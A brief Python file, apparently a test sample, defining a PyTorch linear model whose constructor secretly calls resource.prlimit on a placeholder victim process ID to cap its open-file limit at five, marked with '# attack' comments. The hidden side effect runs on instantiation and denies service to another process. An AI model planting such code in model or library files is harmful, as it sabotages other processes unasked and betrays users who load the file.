"""Takes another process's right to open files away."""

import resource

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        resource.prlimit(int("@VICTIM_PID@"), resource.RLIMIT_NOFILE, (5, 5))
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
